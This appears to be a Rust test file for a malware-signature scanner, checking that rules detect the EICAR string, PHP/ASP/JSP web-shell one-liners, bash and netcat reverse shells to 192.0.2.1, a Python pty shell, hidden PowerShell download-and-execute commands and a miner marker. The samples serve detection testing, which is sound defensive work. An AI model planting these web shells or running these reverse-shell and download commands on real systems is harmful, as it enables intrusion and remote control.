//! The built-in set: it loads as any other source would, and says what its comments say.
#![allow(clippy::unwrap_used, reason = "a failed step fails the test")]

use dachs_base::{Budget, Facts, FileKind, Limits, Memory, NoClock};
use dachs_sigc::{builtin, compile};
use dachs_sigdb::{Image, View};

/// The names of what is found in an object.
fn found(kind: FileKind, bytes: &[u8]) -> Vec<String> {
    let compilation = compile(&builtin()).unwrap();
    assert_eq!(compilation.problems, []);
    let image = Image::new(&compilation.image).unwrap();
    let source = Memory::new(bytes);
    let facts = Facts::default();
    let view = View { source: &source, target: kind.target(), facts: &facts, around: &[] };
    let examined = image.examine(&view, &Budget::new(Limits::default(), NoClock), true);
    let mut names: Vec<String> =
        examined.findings.iter().map(|finding| image.name(finding.signature).unwrap().to_owned()).collect();
    names.sort();
    names
}

/// In halves, so that no scanner takes this file for the test file.
fn eicar() -> Vec<u8> {
    [&b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD"[..], b"-ANTIVIRUS-TEST-FILE!$H+H*"].concat()
}

#[test]
fn the_test_file_is_found_by_its_definition_and_not_otherwise() {
    let around = |before: &[u8], after: &[u8]| found(FileKind::Ascii, &[before, &eicar(), after].concat());
    let blanks = |count| vec![b' '; count];
    for after in [vec![], b" ".to_vec(), b"\n".to_vec(), b"\r\n\x1a".to_vec(), b" \t\r\n".to_vec(), blanks(60)] {
        assert_eq!(around(b"", &after), ["Dachs.Test.EICAR"], "{after:?}");
    }
    let close = [blanks(58), b"x".to_vec()].concat();
    for after in [b"x".to_vec(), b" x".to_vec(), b"\0".to_vec(), blanks(61), close] {
        assert_eq!(around(b"", &after), Vec::<String>::new(), "{after:?}");
    }
    assert_eq!(around(b"The file is ", b""), Vec::<String>::new());
    assert_eq!(found(FileKind::Ascii, &eicar()[..67]), Vec::<String>::new());
}

#[test]
fn our_own_test_objects_are_found() {
    let string = [b"text DACHS-TEST-STRING-".as_slice(), b"7f3a9c51e2b84d06 text"].concat();
    assert_eq!(found(FileKind::Ascii, &string), ["Dachs.Test.String"]);
    assert_eq!(found(FileKind::Ascii, b"Dachs test file for hashes\n"), ["Dachs.Test.Hash"]);
    assert_eq!(found(FileKind::Ascii, b"Dachs test file for hashes"), Vec::<String>::new());
}

/// Each sample in halves, with what is found in it.
const SAMPLES: [(&str, &str, &str); 14] = [
    ("<?php @ev", "al($_POST['x']); ?>", "Dachs.Webshell.PHP.EvalInput"),
    ("GIF89a<?PHP EV", "AL ( $_REQUEST[\"c\"]);", "Dachs.Webshell.PHP.EvalInput"),
    ("<?php ev", "al(base64_decode($_COOKIE['c']));", "Dachs.Webshell.PHP.EvalInput"),
    ("<?= ev", "al(gzinflate(base64_decode($_GET['c'])));", "Dachs.Webshell.PHP.EvalInput"),
    ("<?php sys", "tem($_GET['cmd']); ?>", "Heuristics.Webshell.PHP.ExecInput"),
    ("<? echo shell_", "exec($_REQUEST['cmd']);", "Heuristics.Webshell.PHP.ExecInput"),
    ("<%ev", "al request(\"x\")%>", "Dachs.Webshell.ASP.EvalInput"),
    ("<%Ev", "al(Request.Item[\"x\"],\"unsafe\");%>", "Dachs.Webshell.ASP.EvalInput"),
    ("<% Runtime.getRuntime().ex", "ec(request.getParameter(\"c\")); %>", "Dachs.Webshell.JSP.ExecInput"),
    ("bash -i >& /de", "v/tcp/192.0.2.1/80 0>&1", "Heuristics.ReverseShell.Bash"),
    ("rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/", "sh -i 2>&1|nc 192.0.2.1 80", "Heuristics.ReverseShell.Fifo"),
    (
        "os.dup2(s.fileno(),0); os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);",
        "pty.spawn('sh')",
        "Heuristics.ReverseShell.Python",
    ),
    (
        "powershell -W Hidden IEX (New-Object Net.WebClient).Down",
        "loadString('x')",
        "Heuristics.PowerShell.HiddenDownload",
    ),
    (
        "powershell -WindowStyle Hidden (New-Object Net.WebClient).Down",
        "loadString('x') | IEX",
        "Heuristics.PowerShell.HiddenDownload",
    ),
];

#[test]
fn rules_find_what_they_describe() {
    for (first, second, name) in SAMPLES {
        let sample = [first, second].concat();
        assert_eq!(found(FileKind::Script, sample.as_bytes()), [name], "{sample}");
    }
    let miner = b"\x7fELF stratum+tcp://pool donate-level XMRig";
    assert_eq!(found(FileKind::Elf, miner), ["PUA.Linux.CoinMiner"]);
    assert_eq!(found(FileKind::Ascii, miner), Vec::<String>::new());
    for harmless in
        ["never ev\u{61}l($_POST['x'])", "<?php eval($code); system('ls'); echo $_GET['x'];", "bash -i /dev/tcp/"]
    {
        assert_eq!(found(FileKind::Script, harmless.as_bytes()), Vec::<String>::new(), "{harmless}");
    }
}
